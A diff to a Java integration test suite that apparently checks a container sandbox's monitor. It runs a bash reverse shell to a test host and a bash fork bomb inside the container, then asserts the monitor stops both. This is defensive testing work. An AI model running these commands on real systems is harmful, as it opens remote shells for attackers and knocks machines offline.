@@ -106,6 +106,7 @@ class MonitorAttacksIT {
             assertThat(incus.instance(name).running()).as("a warning does not stop the container").isTrue();
 
             Path sessionDir = box.sessionDirs().getFirst();
+            Path toolState = Files.writeString(sessionDir.resolve("state/conversation.jsonl"), "{\"turn\": 1}\n");
             TestHosts.assertRoutedLocally();
             MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1'");
             MonitorFixtures.awaitGone(incus, name, 10);
@@ -113,8 +114,7 @@ class MonitorAttacksIT {
             System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", "detached", MonitorFixtures.closed(hosts.holdLog).getLast());
             String metadata = Files.readString(sessionDir.resolve("metadata.json"));
             assertThat(metadata).contains("\"status\" : \"ended\"").contains("\"stopped_by\" : \"monitor: reverse shell");
-            assertThat(sessionDir.resolve("state")).isDirectory();
-            assertThat(Files.list(sessionDir.resolve("state")).count()).as("the tool's state survives").isPositive();
+            assertThat(Files.readString(toolState)).as("the tool's state survives").isEqualTo("{\"turn\": 1}\n");
         }
     }
 
@@ -149,7 +149,7 @@ class MonitorAttacksIT {
             incus.setConfig(name, "limits.processes", "2000");
             MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c ':(){ :|:& };:'");
             long t0 = System.nanoTime();
-            MonitorFixtures.awaitGone(incus, name, 20);
+            MonitorFixtures.awaitGone(incus, name, 60);
             System.out.printf("monitor response: %-14s container stopped %.3f s after the bomb started%n", "fork bomb", (System.nanoTime() - t0) / 1e9);
             long h0 = System.nanoTime();
             assertThat(new ProcessBuilder("true").start().waitFor()).isZero();
@@ -166,13 +166,14 @@ class MonitorAttacksIT {
         try (Sandbox box = new Sandbox()) {
             MonitorFixtures.smallProject(box.workspace);
             TestHosts.assertRoutedLocally();
-            Result r = box.run("run", "--monitor", String.join("\n",
+            Result r = box.run("run", "--monitor", "--mount", debs + ":/debs", String.join("\n",
                     "set -e",
+                    "sudo dpkg -i --force-depends /debs/libpython3*.deb >/dev/null 2>&1",
                     "python3 -m unittest -q test_calc 2>&1",
                     "grep -rn 'def ' . | wc -l",
                     "python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 & server=$!",
                     "sleep 1; curl -s -o /dev/null -w 'dev server %{http_code}\\n' http://127.0.0.1:8000/",
-                    "curl -s http://" + HOST + "/",
+                    "curl -s --http0.9 http://" + HOST + "/",
                     "for i in $(seq 1 20); do python3 -c 'print(1)' >/dev/null; done",
                     "kill $server; sleep 1; echo done"));
             assertThat(r.exitCode()).as(r.toString()).isZero();
